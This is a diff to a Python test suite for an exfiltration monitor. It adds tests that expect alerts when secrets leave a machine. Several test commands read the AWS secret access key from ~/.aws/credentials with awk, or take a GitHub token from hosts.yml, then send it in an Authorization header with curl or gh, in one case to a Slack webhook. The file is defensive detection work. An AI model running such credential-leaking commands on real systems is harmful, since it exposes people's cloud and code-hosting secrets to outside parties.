@@ -28,7 +28,7 @@ NAMES = (
     "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
     "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
     "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
-    "backup.corp.example",
+    "backup.corp.example", "hooks.slack.com",
 )
 FLOW_TIMEOUT_S = 20.0
 ALERT_TIMEOUT_S = 20.0
@@ -330,6 +330,10 @@ CURL = "curl -sS -f --cacert $SSL_CERT_FILE -o /dev/null "
 STATUS_BODY = '{"state":"success","context":"ci","description":"build passed"}'
 
 
+def alert_key(record):
+    return (get(record, "event.risk_score"), get(record, "event.reason"))
+
+
 def signal_names(alert):
     return [s.get("name") for s in as_list(get(alert, "exfilwatch.signals", []))]
 
@@ -401,6 +405,34 @@ def test_wget_post_file_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
     assert any(get(s, "exfilwatch.content.source") == "gnutls" for s in content_scans(monitor))
 
 
+# A signing key (the AWS secret access key, a private key) authenticates by a signature made with
+# it; a client that authenticates never sends its bytes. In an Authorization header it is the key
+# leaving, not use: the twins are the hosts.yml token in the same header (above) and aws s3 cp,
+# which signs with the exported key (SigV4: only the key id travels).
+SIGNING_KEY = "SECRET=$(awk '/aws_secret_access_key/{print $3}' $HOME/.aws/credentials); "
+
+
+def assert_signing_key_match(found):
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any(e.startswith("content of ~/.aws/credentials") and "a signing key" in e for e in evidence), evidence
+
+
+def test_curl_with_the_aws_secret_key_in_an_authorization_header_alerts(monitor, home, storage, tmp_path, rules_file):
+    run(SIGNING_KEY + CURL + f"""-H "Authorization: Bearer $SECRET" -H 'Content-Type: application/json' """
+        f"""-d '{STATUS_BODY}' {STATUS_URL}""", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    found = assert_alert_here(monitor, home, "T1567.001")
+    assert_signing_key_match(found)
+    scans = [m for s in content_scans(monitor) for m in as_list(get(s, "exfilwatch.content.matches", []))]
+    assert any(m.get("location") == "auth-header" and m.get("secret") == "signing-key" for m in scans), scans
+    # What the scan found is telemetry: a replay (no fingerprints, no file to read) decides the same.
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
+                                         extra_args=["--rules", str(rules_file)])
+    assert returncode == 0, stderr
+    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))
+
+
 # --- a Go client's command line (gh: its own TLS, no library write for the uprobes to see) --------
 # Where the plaintext cannot be seen, a secret the client's command line carries says which it is:
 # as an authentication header's value it is use; as a field of the request it sends, a leak
@@ -423,9 +455,34 @@ def test_gh_api_with_the_aws_key_in_an_issue_body_alerts(monitor, home, storage,
     returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                          extra_args=["--rules", str(rules_file)])
     assert returncode == 0, stderr
-    def key(record):
-        return (get(record, "event.risk_score"), get(record, "event.reason"))
-    assert sorted(map(key, filter(is_alert, records))) == sorted(map(key, filter(is_alert, monitor.records())))
+    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))
+
+
+def test_curl_with_the_hosts_yml_token_in_an_authorization_header_to_a_webhook_alerts(monitor, home, storage,
+                                                                                       tmp_path, rules_file):
+    # hosts.yml names github.com for its token: in an Authorization header to another site it is
+    # not authenticating to anything it belongs to. Twin, silent: the same header to api.github.com
+    # (test_curl_posting_a_ci_status_with_the_token_in_a_header_is_silent).
+    # (No -f: the stand-in has no webhook to answer with; it logs the request all the same.)
+    run(TOKEN + CURL.replace(" -f ", " ") + f"""-H "Authorization: token $TOKEN" -H 'Content-Type: application/json' """
+        f"""-d '{{"text":"deployed"}}' https://hooks.slack.com/services/T0/B0/X0""", home, storage, tmp_path)
+    uploaded(storage, "POST", "/services/T0/B0/X0")
+    found = assert_alert_here(monitor, home, "T1567.004")
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and "to a site its file does not name it for" in e
+               for e in evidence), evidence
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
+                                         extra_args=["--rules", str(rules_file)])
+    assert returncode == 0, stderr
+    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))
+
+
+def test_gh_api_with_the_aws_secret_key_in_an_authorization_header_alerts(monitor, home, storage, tmp_path):
+    run(SIGNING_KEY + 'gh api -H "Authorization: token $SECRET" repos/our-org/app/statuses/0123abcd '
+        "-f state=success -f context=ci >/dev/null", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    assert_signing_key_match(assert_alert_here(monitor, home, "T1567.001"))
 
 
 def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_is_silent(monitor, home, storage, tmp_path):
